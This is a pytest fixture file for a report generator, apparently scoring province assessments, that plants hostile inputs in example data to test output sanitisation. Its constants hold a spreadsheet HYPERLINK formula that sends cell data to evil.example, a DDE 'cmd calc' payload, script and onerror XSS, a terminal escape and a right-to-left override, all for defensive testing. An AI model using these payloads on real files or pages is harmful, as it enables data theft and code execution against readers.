"""Hostile inputs for the output tests: a unit name, a note and evidence that try to attack the
reader of every output (formulas, scripts, terminal escapes, right-to-left overrides)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

import parindex
from parindex.analysis.responsibility import load_responsibilities
from parindex.report import build_report
from parindex.report.core import Report
from parindex.units import load_unit_list

ROOT = Path(__file__).resolve().parents[2]
EX = ROOT / "docs" / "examples"

SCRIPT = "document.documentElement.setAttribute('data-pwned','1')"
UNIT = f'=HYPERLINK("http://evil.example/?d="&C2,"Tỉnh")\u202e\x1b[31m<script>{SCRIPT}</script>'
NOTE = f"+cmd|' /C calc'!A0\r\n<img src=x onerror=\"{SCRIPT}\">\t@SUM(1)"
EVIDENCE = "-2+3"
#: What no text output may contain.
CONTROLS = ("\x1b", "\u202e", "\r", "\t")


@pytest.fixture(scope="session")
def hostile_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    text = (EX / "example-province-assessments-2025-q3.yaml").read_text(encoding="utf-8")
    text = (
        text.replace('"Tỉnh Ví dụ (example)"', json.dumps(UNIT), 1)
        .replace('"Hai nhiệm vụ chưa có tài liệu kiểm chứng"', json.dumps(NOTE))
        .replace('"KH-12/2025"', json.dumps(EVIDENCE))
    )
    path = tmp_path_factory.mktemp("hostile") / "assessments.yaml"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture(scope="session")
def methodology() -> parindex.Methodology:
    return parindex.load_file(EX / "example-province-scheme-2025.yaml")


@pytest.fixture(scope="session")
def hostile_report(hostile_file: Path, methodology: parindex.Methodology) -> Report:
    m = methodology
    units = load_unit_list(EX / "example-units.yaml")
    rmap = load_responsibilities(EX / "example-responsibilities.yaml", methodology=m, units=units)
    cards = [parindex.score(m, a) for a in parindex.read_assessments(hostile_file)]
    assert cards[0].unit == UNIT
    return build_report(cards[0], responsibilities=rmap, peers=cards)
